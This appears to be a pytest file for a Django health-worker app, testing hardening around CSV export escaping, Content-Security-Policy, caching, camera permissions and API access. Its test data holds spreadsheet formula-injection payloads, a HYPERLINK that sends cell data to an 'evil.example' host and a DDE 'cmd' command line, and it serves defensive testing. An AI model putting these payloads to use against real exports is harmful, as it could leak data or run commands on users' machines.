"""Security headers and exports (issue 8, "Hardening"): CSV cells that a
spreadsheet would run as formulas are neutralised, pages carry a
Content-Security-Policy without inline script, nothing Django answers is
cached, camera and microphone are allowed on the consultation page only,
the API schema and docs are for signed-in users, and a 404 under /api/ is
JSON."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse

from healthhub.spreadsheets import csv_writer, neutralise
from insights.services import snapshots_take
from tests.conftest import api_as
from tests.factories import DepartmentFactory, UserFactory, WorkerFactory
from workers.models import AccessLog
from workers.services import access_log_record

pytestmark = pytest.mark.django_db

FORMULAS = ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1)']


# --- CSV -------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_starts_a_formula_is_written_as_text(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Assembly", "3", "—", "", "a=b", -3, 2.5, None])
def test_other_cells_are_left_as_they_are(value):
    assert neutralise(value) == value


def test_the_writer_neutralises_every_cell_and_round_trips_through_csv():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", "plain, with comma", -1, "@x"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "plain, with comma", "-1", "'@x"]


def test_hr_csv_export_neutralises_a_department_name(client, hana, site_a, alice):
    evil = DepartmentFactory(site=site_a, name='=HYPERLINK("http://evil.example")')
    for _ in range(5):
        WorkerFactory(department=evil)
    snapshots_take(site=site_a)  # HR reads the snapshots of closed weeks, which keep the name
    client.force_login(hana)
    response = client.get(reverse("insights:export", args=["worker_shifts"]), {"site": site_a.pk, "by": "department"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    labels = [row[0] for row in rows[1:]]
    assert "'" + evil.name in labels
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_access_log_export_neutralises_a_reason(client, adam, alice, clara):
    access_log_record(accessor=clara, worker=alice, what="readings", reason="=cmd|' /C calc'!A0")
    client.force_login(adam)
    ids = [str(pk) for pk in AccessLog.objects.values_list("pk", flat=True)]
    response = client.post("/admin/workers/accesslog/", {"action": "export_csv", "_selected_action": ids})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][-1] == "'=cmd|' /C calc'!A0"


# --- Headers --------------------------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/(?:ld\+)?json\")[^>]*>", re.I)
INLINE_HANDLER = re.compile(r"\son[a-z]+\s*=", re.I)


def csp_directives(response) -> dict[str, list[str]]:
    header = response["Content-Security-Policy"]
    return {name: values for name, *values in (part.split() for part in header.split(";") if part.strip())}


@pytest.fixture
def pages(alice, clara, hana, requested):
    """(user, url) for the main pages of each role."""
    root = UserFactory(username="root", is_superuser=True, is_staff=True)
    return [
        (alice.user, reverse("portal:today")),
        (alice.user, reverse("portal:data")),
        (alice.user, reverse("portal:privacy")),
        (alice.user, reverse("consultations:detail", args=[requested.pk])),
        (clara, reverse("desk:triage")),
        (clara, reverse("desk:desk-site", args=[alice.site_id])),
        (clara, reverse("desk:worker-detail", args=[alice.pk])),
        (clara, reverse("consultations:list")),
        (clara, reverse("consultations:detail", args=[requested.pk])),
        (hana, reverse("insights:overview")),
        (root, "/admin/workers/worker/"),
        (root, f"/admin/workers/worker/{alice.pk}/change/"),
        (alice.user, "/accounts/2fa/"),
        (None, reverse("login")),
    ]


def test_pages_have_a_csp_without_inline_script_and_no_inline_script_or_handler(pages):
    for user, url in pages:
        client = Client()
        if user is not None:
            client.force_login(user)
        response = client.get(url)
        assert response.status_code == 200, url
        directives = csp_directives(response)
        assert directives["script-src"] == ["'self'"], url
        assert directives["object-src"] == ["'none'"] and directives["frame-ancestors"] == ["'none'"]
        assert "'unsafe-inline'" not in directives.get("style-src", []), url
        html = response.content.decode()
        assert not INLINE_SCRIPT.search(html), (url, INLINE_SCRIPT.search(html))
        assert not INLINE_HANDLER.search(re.sub(r"<(?:code|pre)[^>]*>.*?</(?:code|pre)>", "", html, flags=re.S)), url


def test_pages_and_api_responses_are_never_stored(alice, clara, pages):
    for user, url in pages:
        client = Client()
        if user is not None:
            client.force_login(user)
        assert "no-store" in client.get(url)["Cache-Control"], url
    for path in (f"/api/v1/workers/{alice.pk}/readings/", "/api/v1/alerts/", "/api/v1/nowhere/"):
        assert "no-store" in api_as(clara).get(path)["Cache-Control"], path
    assert "no-store" in api_as(None).get("/api/v1/alerts/")["Cache-Control"]


def test_static_files_keep_their_caching(client):
    response = client.get("/static/js/base.js")
    assert response.status_code == 200
    assert "no-store" not in response.get("Cache-Control", "")


def test_camera_and_microphone_only_on_the_consultation_page(alice, requested):
    client = Client()
    client.force_login(alice.user)
    consultation = client.get(reverse("consultations:detail", args=[requested.pk]))["Permissions-Policy"]
    assert "camera=(self)" in consultation and "microphone=(self)" in consultation
    for url in (reverse("portal:today"), reverse("consultations:list"), reverse("login")):
        policy = client.get(url)["Permissions-Policy"]
        assert "camera=()" in policy and "microphone=()" in policy and "geolocation=()" in policy, url


# --- API schema and errors --------------------------------------------------------


@pytest.mark.parametrize("path", ["/api/schema/", "/api/docs/"])
def test_schema_and_docs_are_refused_to_anonymous(client, path):
    response = client.get(path)
    assert response.status_code in (401, 403)
    assert "openapi" not in response.content.decode()


def test_schema_and_docs_are_served_to_a_signed_in_user(client, alice):
    client.force_login(alice.user)
    schema = client.get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert schema.status_code == 200 and b"/api/v1/alerts/" in schema.content
    docs = client.get("/api/docs/")
    assert docs.status_code == 200
    assert not INLINE_SCRIPT.search(docs.content.decode())
    assert csp_directives(docs)["script-src"] == ["'self'"]
    script = client.get("/api/docs/?script=")
    assert script.status_code == 200 and b"SwaggerUIBundle" in script.content


@pytest.mark.parametrize("path", ["/api/v1/nowhere/", "/api/v1/alerts/abc/", "/api/schema/x"])
def test_a_404_under_api_is_json(client, alice, path):
    client.force_login(alice.user)
    response = client.get(path)
    assert response.status_code == 404
    assert response["Content-Type"] == "application/json"
    assert response.json() == {"detail": "Not found."}


def test_a_404_elsewhere_is_still_a_page(client):
    response = client.get("/nowhere/")
    assert response.status_code == 404 and response["Content-Type"].startswith("text/html")
